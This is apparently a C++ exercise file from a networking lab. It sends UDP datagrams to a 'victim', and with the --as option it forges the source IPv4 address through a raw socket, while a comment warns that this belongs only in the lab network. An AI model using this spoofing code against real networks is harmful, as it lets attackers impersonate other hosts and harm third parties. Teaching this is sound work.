#include <netinet/in.h>
#include <sys/socket.h>

#include <charconv>
#include <iostream>
#include <stdexcept>
#include <string>
#include <string_view>

#include "common/address.hh"
#include "common/descriptor.hh"
#include "common/error.hh"
#include "common/todo.hh"
#include "spoofed_reply.hh"

// The attacker is off the path: he sees neither question nor answer, and can only send. All the same he can
// put any address on what he sends.
//
// This belongs into the lab's own network, where every machine is yours. Sending packets in other people's
// names into a network that others use is a crime in most countries, and hurts somebody in all of them.

namespace wirelab {
namespace {

/// `10.6.0.2:1060`, numbers only.
Address parse_end(const std::string& text) {
  const std::size_t colon = text.rfind(':');
  unsigned port = 0;
  const char* end = text.data() + text.size();
  try {
    if (colon == std::string::npos) throw std::invalid_argument("no port");
    const auto [stop, error] = std::from_chars(text.data() + colon + 1, end, port);
    if (error != std::errc{} || stop != end || port > 65535) throw std::invalid_argument("no port");
    const Address address = Address::numeric(text.substr(0, colon), static_cast<std::uint16_t>(port));
    if (address.family() == AF_INET) return address;
  } catch (const std::invalid_argument&) {
  }
  throw UsageError("--as '" + text + "': not an IPv4 address and a port, like 10.6.0.2:1060");
}

}  // namespace

/// Sends the message as anybody would, in one datagram from a UDP socket. The kernel writes the headers, and
/// puts this host's own address and a free port on them. Errors read `send to 10.6.0.1:40213: Message too
/// long`.
void send_openly(const Address& victim, const std::string& message) {
  // TODO(06.1): make a UDP socket and send the message to the victim.
  const Descriptor descriptor(must(socket(victim.family(), SOCK_DGRAM | SOCK_CLOEXEC, 0), "socket"));
  must(sendto(descriptor.get(), message.data(), message.size(), 0, victim.data(), *victim.size()), "send to",
       victim.to_string());
}

/// Sends the message in a packet whose headers are our own: make_packet, with `source` as its source. A raw
/// socket with IP_HDRINCL takes a whole IP packet, header and all; one of protocol IPPROTO_RAW has that
/// option from the start (raw(7)). It takes a right to open one (CAP_NET_RAW), for the reason that you see
/// here. sendto still wants the victim's address, to find the way there. Errors read `socket raw: Operation
/// not permitted`.
void send_forged(const Address& source, const Address& victim, const std::string& message) {
  // TODO(06.5): make a raw socket and send the packet through it.
  const std::string packet = make_packet(source, victim, message);
  const Descriptor descriptor(must(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), "socket", "raw"));
  must(sendto(descriptor.get(), packet.data(), packet.size(), 0, victim.data(), *victim.size()), "send to",
       victim.to_string());
}

void run_attack(const Arguments& arguments) {
  const std::string message = arguments.words.empty() ? "" : arguments.words.front();
  const Address victim = Address::resolve(arguments.host, arguments.port, SOCK_DGRAM).front();
  if (!arguments.has("--as")) {
    send_openly(victim, message);
    std::cout << message.size() << " bytes to " << victim.to_string() << std::endl;
  } else {
    const Address source = parse_end(arguments.options.at("--as"));
    if (victim.family() != AF_INET) throw UsageError("--as needs a victim with an IPv4 address");
    send_forged(source, victim, message);
    std::cout << message.size() << " bytes to " << victim.to_string() << " as " << source.to_string()
              << std::endl;
  }
}

}  // namespace wirelab
